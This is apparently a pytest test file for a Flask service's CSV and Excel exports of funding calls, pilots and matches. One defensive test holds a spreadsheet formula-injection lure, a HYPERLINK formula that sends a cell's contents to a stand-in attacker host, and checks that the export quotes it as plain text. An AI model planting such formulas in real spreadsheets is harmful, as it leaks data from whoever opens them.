"""Every list as a spreadsheet: opened again by the libraries of others."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from typing import Any

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook

from service.context import Context
from service.domain.matching.feedback import Opinion
from service.use_cases import calls as call_use_cases
from service.use_cases.feedback import judge_call
from tests.service.sample_calls import FIRST, HOSTILE, some_calls

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ADDRESSES = (
    "/api/v1/calls.{}",
    "/api/v1/calls/eu_portal:HEART/2026/01/pilots.{}",
    "/api/v1/actors.{}?q=heart failure",
    "/api/v1/pilots.{}",
    "/api/v1/pilots/heart/matches.{}",
    "/api/v1/pilots/matches/all.{}",
    "/api/v1/pilots/heart/feedback.{}",
    "/api/v1/pilots/heart/recipients.{}",
    "/api/v1/sources.{}",
)


def opened(content: bytes) -> Any:
    """Return the sheet of a workbook."""
    return load_workbook(io.BytesIO(content)).active


def read_csv(client: FlaskClient, address: str) -> list[dict[str, str]]:
    answer = client.get(address)
    assert answer.status_code == 200, answer.text
    assert answer.content_type == "text/csv; charset=utf-8; header=present"
    text = answer.data.decode("utf-8-sig")
    assert answer.data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def read_xlsx(client: FlaskClient, address: str) -> list[dict[str, Any]]:
    answer = client.get(address)
    assert answer.status_code == 200, answer.text
    assert answer.content_type == XLSX
    heads, *rows = opened(answer.data).iter_rows(values_only=True)
    return [dict(zip(heads, row, strict=True)) for row in rows]


@pytest.mark.parametrize("address", ADDRESSES)
def test_every_list_is_the_same_in_both_forms(client: FlaskClient, address: str) -> None:
    as_csv = read_csv(client, address.format("csv"))
    as_xlsx = read_xlsx(client, address.format("xlsx"))
    assert len(as_csv) == len(as_xlsx)
    for one, other in zip(as_csv, as_xlsx, strict=True):
        assert list(one) == list(other)
        for heading, value in other.items():
            if isinstance(value, str):
                assert one[heading].removeprefix("'") == value.removeprefix("'")
            assert (value is None) == (one[heading] == "")


def test_the_list_of_calls_has_its_rows_and_its_order(client: FlaskClient) -> None:
    listed = client.get("/api/v1/calls").get_json()
    rows = read_csv(client, "/api/v1/calls.csv")
    assert [row["Id"] for row in rows] == [card["id"] for card in listed["calls"]]
    assert len(rows) == 6
    heart = next(row for row in rows if row["Id"] == "eu_portal:HEART/2026/01")
    assert heart["Deadline"] == "2026-04-14"
    assert (heart["Time"], heart["Time zone"]) == ("17:00", "Europe/Brussels")
    assert (heart["At most for a project"], heart["Currency"]) == ("4000000", "EUR")
    assert heart["In all for the call"] == "12500000.50"


def test_days_are_real_days_in_a_workbook(client: FlaskClient) -> None:
    rows = read_xlsx(client, "/api/v1/calls.xlsx?lang=sv")
    home = next(row for row in rows if row["Id"] == "vinnova:2026-00001")
    assert home["Sista ansökningsdag"] == datetime.fromisoformat("2026-03-14")
    assert home["Titel"] == "Hjärtsvikt i hemmet"
    assert home["Läge"] == "Öppen"
    assert home["Högst per projekt"] == 5_000_000
    rolling = next(row for row in rows if row["Id"] == "vinnova:2026-00002")
    assert rolling["Sista ansökningsdag"] is None
    assert isinstance(home["Sista ansökningsdag"], date)


def test_filters_and_words_are_those_of_the_list(client: FlaskClient) -> None:
    rows = read_csv(client, "/api/v1/calls.csv?status=open&funder=vinnova&q=hjärtsvikt")
    assert [row["Id"] for row in rows] == ["vinnova:2026-00001"]
    assert client.get("/api/v1/calls.csv?page=2").status_code == 422
    assert client.get("/api/v1/calls.csv?lang=de").status_code == 422
    assert client.get("/api/v1/calls.csv?status=ajar").status_code == 422
    assert client.get("/api/v1/calls.pdf").status_code == 404
    assert client.get("/api/v1/pilots/none/matches.csv").status_code == 404


def test_hostile_words_of_funders_stay_words(client: FlaskClient) -> None:
    rows = read_xlsx(client, "/api/v1/calls.xlsx")
    hostile = next(row for row in rows if row["Id"] == "hostile:1")
    assert hostile["Funder"] == HOSTILE.replace("\u202e", "").replace("\x07", "")


def test_a_title_that_is_a_formula_is_text(own_context: Context, own_client: FlaskClient) -> None:
    lure = '=HYPERLINK("https://evil.example/?"&B2,"Utlysning")'
    call = some_calls()[1].model_copy(update={"id": "vinnova:x", "titles": {"sv": lure}})
    own_context.calls.upsert([call], FIRST)
    (row,) = read_csv(own_client, "/api/v1/calls.csv?q=HYPERLINK")
    assert row["Title"] == f"'{lure}"
    answer = own_client.get("/api/v1/calls.xlsx?q=HYPERLINK")
    cell = opened(answer.data)["B2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (lure, "s", True)


def test_matches_have_their_reasons(client: FlaskClient) -> None:
    matches = client.get("/api/v1/pilots/heart/matches").get_json()["matches"]
    rows = read_xlsx(client, "/api/v1/pilots/heart/matches.xlsx")
    assert [row["Id"] for row in rows] == [match["call"]["id"] for match in matches]
    assert [row["Rank"] for row in rows] == list(range(1, len(rows) + 1))
    first = matches[0]["reasons"][0]["en"]
    assert rows[0]["Why"].startswith(first[:40])


def test_the_calls_of_all_pilots_are_in_one_list(client: FlaskClient) -> None:
    rows = read_xlsx(client, "/api/v1/pilots/matches/all.xlsx")
    assert {row["Pilot's id"] for row in rows} == {"heart", "hostile"}
    best = next(row for row in rows if row["Pilot's id"] == "heart")
    mail = client.get("/api/v1/pilots/heart/digest").get_json()
    scores = {item["call_id"]: item["match"]["score"] for item in mail["items"]}
    assert best["Id"] == max(scores, key=lambda id_: scores[id_])


def test_judged_calls_have_their_titles(own_context: Context, own_client: FlaskClient) -> None:
    judge_call(own_context, "heart", "vinnova:2026-00001", Opinion.RELEVANT, "=Anna")
    (row,) = read_csv(own_client, "/api/v1/pilots/heart/feedback.csv?lang=sv")
    assert row["Titel"] == "Hjärtsvikt i hemmet"
    assert row["Av"] == "'=Anna"


def test_a_long_list_is_read_in_parts_and_cut(
    own_context: Context, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(call_use_cases, "_PART_SIZE", 2)
    whole = call_use_cases.list_calls(own_context).calls
    parts = call_use_cases.list_many_calls(own_context, most=5)
    assert parts.calls == whole[:5]
    assert parts.total == 6


def test_it_is_saved_under_a_name(client: FlaskClient) -> None:
    answer = client.get("/api/v1/calls.xlsx")
    assert answer.headers["Content-Disposition"] == 'attachment; filename="calls.xlsx"'
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(
    ("page", "file"),
    [
        ("/calls?q=heart&status=open", "/api/v1/calls.xlsx?lang=en&status=open&q=heart"),
        ("/pilots", "/api/v1/pilots.csv?lang=en"),
        ("/pilots/heart?by=Anna&top=25", "/api/v1/pilots/heart/matches.csv?lang=en&top=25"),
        ("/actors?q=heart failure", "/api/v1/actors.csv?lang=en&q=heart+failure"),
        (
            "/calls/eu_portal:HEART/2026/01/pilots",
            "/api/v1/calls/eu_portal:HEART/2026/01/pilots.xlsx?lang=en",
        ),
    ],
)
def test_pages_link_to_their_spreadsheet(client: FlaskClient, page: str, file: str) -> None:
    html = client.get(page).text.replace("&amp;", "&")
    assert f'href="{file}"' in html
    assert client.get(file).status_code == 200
